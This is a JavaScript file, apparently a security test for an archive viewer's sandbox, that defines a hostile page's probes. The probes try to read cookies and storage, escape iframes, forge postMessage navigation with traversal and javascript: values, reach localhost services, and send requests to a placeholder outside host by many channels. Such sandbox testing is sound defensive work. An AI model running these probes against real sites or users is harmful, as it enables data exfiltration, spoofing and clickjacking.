// The probes of a page that attacks its reader: attack() gives what each of them found, by its name.
// INTERFACE, NEIGHBOUR and LIVE are put in by attack.py.
async function attack() {
  const found = {};
  const late = () => new Promise((_, refuse) => setTimeout(() => refuse(new Error("late")), 2500));
  const probe = async (name, action) => {
    try {
      found[name] = String((await Promise.race([action(), late()])) ?? "nothing");
    } catch {
      found[name] = "refused";
    }
  };
  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  const said = (frame) =>
    new Promise((done) =>
      addEventListener("message", (event) => {
        if (event.source === frame.contentWindow && event.data?.escaped !== undefined) done(event.data.escaped);
      }),
    );
  const escape = `let got = "refused"; try { got = "GOT " + top.document.title } catch {}
    try { top.document.title = "SPOOFED" } catch {} parent.postMessage({ escaped: got }, "*");`;
  const framed = async (properties) => {
    const frame = Object.assign(document.createElement("iframe"), properties);
    const answer = said(frame);
    document.body.append(frame);
    return answer;
  };
  const secret = (text) => (/SECRET/.test(text) ? "GOT " + text : "nothing of it");
  const read = async (url, options) => {
    const text = await (await fetch(url, options)).text();
    return !text || /Not in this archive/.test(text) ? "nothing" : "GOT " + text.slice(0, 40);
  };

  await probe("cookie", () => secret(document.cookie));
  await probe("cookies set", () => {
    for (let i = 0; i < 50; i++) document.cookie = `c${i}=1; path=/`;
  });
  await probe("cookie store", async () => secret(JSON.stringify(await cookieStore.getAll())));
  await probe("storage of the interface", () => secret(JSON.stringify({ ...localStorage, ...sessionStorage })));
  await probe(
    "database",
    () =>
      new Promise((done) => {
        indexedDB.open("evil").onsuccess = () => done("kept");
      }),
  );
  await probe("top document", () => "GOT " + top.document.title);
  await probe("title", () => {
    top.document.title = "SPOOFED";
    return "GOT";
  });
  await probe("top's names", () => "GOT " + Object.keys(top.localStorage));
  await probe("top navigation", () => {
    top.location = "http://LIVE/top";
  });
  await probe("top close", () => {
    top.close();
  });
  for (const [name, claim] of Object.entries({
    spoof: { title: "SPOOFED" },
    script: { archived: "javascript:document.title='SPOOFED'" },
    elsewhere: { archived: "//LIVE/claim" },
    home: { archived: "/crawls" },
    dots: { archived: "/page/../crawls" },
    "escaped dots": { archived: "/page/%2e%2e/crawls" },
    backslashes: { archived: "/page/..\\crawls" },
    "its own words": { archived: ["/page/../crawls"] },
    odd: { archived: { toString: 1 } },
  }))
    await probe(`message: ${name}`, () => {
      top.postMessage(claim, "*");
      parent.postMessage(claim, "*");
    });
  await probe("frame of nothing", () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return "GOT " + frame.contentWindow.top.document.title;
  });
  await probe("frame of nothing, natives", () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return secret(frame.contentWindow.document.cookie);
  });
  await probe("frame of srcdoc", () => framed({ srcdoc: `<script>${escape}<\/script>` }));
  await probe("frame of data", () =>
    framed({ src: `data:text/html,<script>${encodeURIComponent(escape)}<\/script>` }),
  );
  await probe("frame of blob", () =>
    framed({ src: URL.createObjectURL(new Blob([`<script>${escape}<\/script>`], { type: "text/html" })) }),
  );
  await probe("frame of javascript", () => framed({ src: `javascript:${encodeURIComponent(escape)}` }));
  await probe("frame of the interface", () => {
    add("iframe", { src: "INTERFACE/", name: "clickjacked" });
  });
  await probe("object of the interface", () => {
    add("object", { data: "INTERFACE/" });
    add("embed", { src: "INTERFACE/" });
  });
  await probe(
    "service worker at /",
    async () => "GOT " + (await navigator.serviceWorker.register("/sw.js", { scope: "/" })).scope,
  );
  await probe(
    "service worker of its own",
    async () =>
      "GOT " + (await navigator.serviceWorker.register(new URL("sw.js", document.baseURI), { scope: "./" })).scope,
  );
  await probe("interface read", () => read("INTERFACE/"));
  await probe("interface read by its path", () => read("/crawls"));
  await probe("reports forged", () => read("/csp-report?of=x", { method: "POST", body: "{}" }));
  await probe("neighbour read", () => read("http://127.0.0.1:NEIGHBOUR/"));
  await probe("neighbour by name", () => read("http://localhost:NEIGHBOUR/", { mode: "no-cors" }));
  await probe("fetch", () => read("http://LIVE/fetch"));
  await probe("fetch without cors", () => read("https://LIVE/fetch2", { mode: "no-cors", keepalive: true }));
  await probe(
    "request by XMLHttpRequest",
    () =>
      new Promise((done, refuse) => {
        const asking = new XMLHttpRequest();
        asking.open("POST", "http://LIVE/xhr");
        asking.onerror = refuse;
        asking.onload = () => done(asking.status < 400 ? "GOT" : asking.status);
        asking.send("x");
      }),
  );
  await probe("beacon", () => {
    navigator.sendBeacon("http://LIVE/beacon", "x");
  });
  await probe(
    "socket",
    () =>
      new Promise((done, refuse) => {
        const socket = new WebSocket("ws://LIVE/socket");
        socket.onopen = () => done("GOT");
        socket.onerror = refuse;
      }),
  );
  await probe(
    "events",
    () =>
      new Promise((done, refuse) => {
        const source = new EventSource("http://LIVE/events");
        source.onopen = () => done("GOT");
        source.onerror = () => {
          source.close();
          refuse();
        };
      }),
  );
  await probe("transport", async () => {
    await new WebTransport("https://LIVE:443/x").ready;
    return "GOT";
  });
  await probe("image", () => {
    new Image().src = "http://LIVE/image.png";
  });
  await probe("pictures of all kinds", () => {
    const raw = (name, attribute, value) => {
      const made = document.createElement(name);
      made.setAttributeNode(Object.assign(document.createAttribute(attribute), { value }));
      document.body.append(made);
    };
    for (const name of ["img", "script", "iframe", "embed", "video", "audio", "input", "track"])
      raw(name, "src", `http://LIVE/${name}`);
    raw("img", "srcset", "http://LIVE/srcset 2x");
    raw("object", "data", "http://LIVE/object");
    raw("video", "poster", "http://LIVE/poster");
    raw("body", "background", "http://LIVE/background");
    raw("p", "style", "background: url(http://LIVE/style)");
    document.body.append(
      new DOMParser().parseFromString(
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://LIVE/svg'/><use href='http://LIVE/use#x'/></svg>",
        "image/svg+xml",
      ).documentElement,
    );
  });
  await probe("hints", () => {
    for (const rel of [
      "dns-prefetch",
      "preconnect",
      "prefetch",
      "prerender",
      "preload",
      "modulepreload",
      "icon",
      "manifest",
      "stylesheet",
    ]) {
      add("link", { rel, href: `http://${rel}.LIVE/hint`, as: "script" });
      add("link", { rel, href: `https://${rel}.s.LIVE/hint`, as: "image" });
    }
    const rules = {
      prefetch: [{ source: "list", urls: ["http://LIVE/rules"] }],
      prerender: [{ source: "list", urls: ["http://LIVE/rules2"] }],
    };
    add("script", { type: "speculationrules", textContent: JSON.stringify(rules) });
  });
  await probe("styles", () => {
    add("style", {
      textContent:
        "@import 'http://LIVE/import.css'; @font-face { font-family: x; src: url(http://LIVE/font) } body { font-family: x; background: url(http://LIVE/css) }",
    });
    new FontFace("y", "url(http://LIVE/face)").load().catch(() => 0);
  });
  await probe("module", () => import("http://LIVE/module.js").then(() => "GOT"));
  await probe(
    "worker",
    () =>
      new Promise((done, refuse) => {
        const made = new Worker("http://LIVE/worker.js");
        made.onmessage = () => done("GOT");
        made.onerror = refuse;
      }),
  );
  await probe(
    "worker of data",
    () =>
      new Promise((done) => {
        const code =
          `importScripts`.length &&
          `(async () => { const got = [];
      for (const action of [() => fetch("http://LIVE/worker-fetch", { mode: "no-cors" }), () => importScripts("http://LIVE/worker-import.js"),
        () => import("http://LIVE/worker-module.js"), () => new Promise((opened, refused) => { const s = new WebSocket("ws://LIVE/worker-socket"); s.onopen = opened; s.onerror = refused; }),
        () => fetch("INTERFACE/")]) { try { await action(); got.push("GOT"); } catch { got.push("refused"); } }
      postMessage(got.join()); })()`;
        const made = new Worker(`data:text/javascript,${encodeURIComponent(code)}`);
        made.onmessage = (event) => done(event.data);
      }),
  );
  await probe("window", () => (open("http://LIVE/open") ? "GOT" : "nothing"));
  await probe("window of nothing", () => (open("about:blank") ? "GOT" : "nothing"));
  await probe("downloads", () => {
    add("a", { id: "down", download: "evil.exe", href: URL.createObjectURL(new Blob(["x"])) });
    document.getElementById("down").click();
  });
  await probe("alerts", () => {
    for (let i = 0; i < 3; i++) {
      alert("again");
      confirm("?");
      prompt("?");
    }
    print();
  });
  await probe("full screen", async () => {
    await document.documentElement.requestFullscreen();
    return "GOT";
  });
  await probe("pointer", async () => {
    await document.body.requestPointerLock();
    return document.pointerLockElement ? "GOT" : "nothing";
  });
  await probe(
    "place",
    () => new Promise((done, refuse) => navigator.geolocation.getCurrentPosition(() => done("GOT"), refuse)),
  );
  await probe("camera", async () => {
    await navigator.mediaDevices.getUserMedia({ video: true });
    return "GOT";
  });
  await probe("clipboard", async () => "GOT " + (await navigator.clipboard.readText()));
  await probe("clipboard written", async () => {
    await navigator.clipboard.writeText("evil");
    return "GOT";
  });
  await probe("notices", async () => ((await Notification.requestPermission()) === "granted" ? "GOT" : "nothing"));
  await probe("storage access", async () => {
    await document.requestStorageAccess();
    return "GOT";
  });
  await probe("payment", async () => {
    await new PaymentRequest([{ supportedMethods: "https://LIVE/pay" }], {
      total: { label: "x", amount: { currency: "EUR", value: "1" } },
    }).canMakePayment();
  });
  await probe("history", () => {
    history.pushState({}, "", "INTERFACE/");
    return location.href.startsWith("INTERFACE") ? "GOT" : "nothing";
  });
  await probe("base", () => {
    add("base", { href: "http://LIVE/" });
    return document.baseURI.startsWith("http://LIVE") ? "GOT" : "nothing";
  });
  return found;
}
